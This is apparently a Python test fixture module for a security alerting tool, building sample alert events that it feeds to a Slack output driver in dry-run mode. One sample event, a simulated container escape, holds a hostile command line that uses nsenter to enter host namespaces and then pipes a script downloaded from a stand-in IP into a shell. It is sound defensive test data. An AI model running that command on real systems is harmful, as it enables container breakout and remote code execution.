"""Normalised events (decoders/ALERT.md) for the tests of the output slack, and how they reach slack_drive."""

import json
import subprocess


def event(number, rule, priority="Warning", **more):
    """more: dotted keys with __ for the dot."""
    tree = {"schema": "1", "id": f"feedc0de-{number}", "time": "2026-07-31T18:27:01.000000000Z", "rule": rule, "priority": priority,
            "source": "syscall", "category": "test", "output": f"output of {rule}", "host": {"name": "web-1"}}
    for key, value in more.items():
        at = tree
        *folders, leaf = key.split("__")
        for folder in folders:
            at = at.setdefault(folder, {})
        at[leaf] = value
    return {"tiercel": tree}


def escape(number=1):
    return event(
        number, "Container Escape via nsenter", "Critical", category="container_escape",
        output="A process in a container entered the host's namespaces (user=root command=nsenter --target 1 --mount --uts --net --pid "
               "-- bash -c curl -s http://203.0.113.9/i.sh | sh container=checkout-api image=registry.example.com/shop/checkout:2.14.1)",
        mitre__technique=["T1611", "T1059.004"], mitre__tactic=["privilege_escalation", "execution"],
        evt__type="setns", evt__res="SUCCESS", proc__name="nsenter", proc__pid=48213,
        proc__exepath="/usr/bin/nsenter", proc__cmdline="nsenter --target 1 --mount --uts --net --pid -- bash -c curl -s http://203.0.113.9/i.sh | sh",
        proc__pname="sh", proc__pcmdline="sh -c id; cat /proc/1/status; nsenter --target 1 --mount",
        proc__ancestors=["sh", "node", "containerd-shim", "systemd"], user__name="root", user__uid=0, user__loginuid=-1,
        container__id="7f3b1c9e2a44", container__name="checkout-api", container__image_repository="registry.example.com/shop/checkout",
        container__image_tag="2.14.1", container__type="containerd", container__privileged=True,
        k8s__ns="shop", k8s__pod="checkout-api-6d9f7c5b8-x2x7k")


def test_alert(number=1):
    return event(number, "Tiercel test", "Informational", category="test", source="internal", tags=["test"],
                 output="This is a test: somebody ran `tiercel outputs test` on this host. Nothing happened, and nothing needs to be done.")


def dry(drive, window_ms, lines):
    """[(ms, body)], and how many alerts went in."""
    text = "".join(f"{ms} {json.dumps(value)}\n" for ms, value in lines)
    out = subprocess.run([drive, "dry", str(window_ms)], input=text, capture_output=True, text=True, check=True, timeout=200).stdout.splitlines()
    requests = [(int(line.split(" ", 1)[0]), line.split(" ", 1)[1]) for line in out[:-1]]
    return requests, int(out[-1].split()[1])
